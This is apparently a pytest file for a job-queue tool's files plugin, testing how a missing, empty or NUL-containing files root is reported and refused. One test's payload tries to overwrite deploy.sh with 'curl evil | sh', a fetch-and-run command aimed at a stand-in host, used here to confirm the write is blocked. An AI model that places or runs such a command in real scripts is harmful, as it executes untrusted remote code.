"""A files root set by the operator is never made by a job: when it is missing, the worker
says so at start and each write fails (retried) naming the folder and the fix, not a
wrong cause; once the folder exists the retry succeeds."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

from testenv import subprocess_env

JOBCORE = [sys.executable, "-m", "jobcore"]


def run(cwd: Path, env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*JOBCORE, *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=60
    )


def test_a_missing_configured_root_is_named_and_never_made(tmp_path: Path) -> None:
    root = tmp_path / "srv" / "data"
    (tmp_path / "jobcore.toml").write_text(f'[plugins.files]\nroot = "{root}"\n')
    env = subprocess_env()
    payload = '{"path": "reports/a.txt", "content": "x"}'
    assert run(tmp_path, env, "enqueue", "create_file", payload).returncode == 0
    first = run(tmp_path, env, "run", "--until-empty", "--backoff-base", "0s", "--max-jobs", "1")
    assert first.returncode == 0, first.stderr
    start = next(line for line in first.stderr.splitlines() if "WARNING" in line)
    assert f"the files root {root}" in start and "does not exist" in start, start
    retried = next(line for line in first.stderr.splitlines() if "retrying" in line)
    assert f"mkdir -p {root}" in retried and "outside" not in retried, retried
    assert not root.exists() and not (tmp_path / "srv").exists()
    root.mkdir(parents=True)
    second = run(tmp_path, env, "run", "--until-empty", "--backoff-base", "0s")
    assert second.returncode == 0, second.stderr
    assert (root / "reports" / "a.txt").read_text() == "x"


def test_the_default_root_is_still_made_on_demand(tmp_path: Path) -> None:
    env = subprocess_env()
    assert (
        run(tmp_path, env, "enqueue", "create_file", '{"path": "a.txt", "content": "y"}').returncode
        == 0
    )
    done = run(tmp_path, env, "run", "--until-empty")
    assert done.returncode == 0 and "WARNING" not in done.stderr, done.stderr
    assert (tmp_path / "jobcore-files" / "a.txt").read_text() == "y"


def test_an_empty_root_is_a_start_up_error_not_the_working_directory(tmp_path: Path) -> None:
    """`JOBCORE_FILES_ROOT=${UNSET}` in a unit file: never the folder of jobcore.db."""
    (tmp_path / "deploy.sh").write_text("echo deploying\n")
    env = subprocess_env(JOBCORE_FILES_ROOT="")
    payload = '{"path": "deploy.sh", "content": "curl evil | sh\\n", "overwrite": true}'
    for args in (("enqueue", "create_file", payload), ("run", "--until-empty")):
        done = run(tmp_path, env, *args)
        assert done.returncode == 1 and done.stdout == "", done
        assert done.stderr.startswith(
            "Error: bad setting 'root' from JOBCORE_FILES_ROOT: is empty; set it to a folder"
        ), done.stderr
        assert len(done.stderr.splitlines()) == 1, done.stderr
    assert (tmp_path / "deploy.sh").read_text() == "echo deploying\n"
    assert not (tmp_path / "jobcore.db").exists()  # nothing enqueued


def test_a_root_with_a_nul_is_one_error_line_naming_the_setting_and_its_file(
    tmp_path: Path,
) -> None:
    (tmp_path / "jobcore.toml").write_text('[plugins.files]\nroot = "a\\u0000b"\n')
    done = run(
        tmp_path, subprocess_env(), "enqueue", "create_file", '{"path": "x", "content": "y"}'
    )
    assert done.returncode == 1 and done.stdout == "" and "Traceback" not in done.stderr, done
    assert done.stderr == (
        "Error: bad setting 'root' from jobcore.toml [plugins.files]: "
        "contains a NUL character, which no path can hold\n"
    )
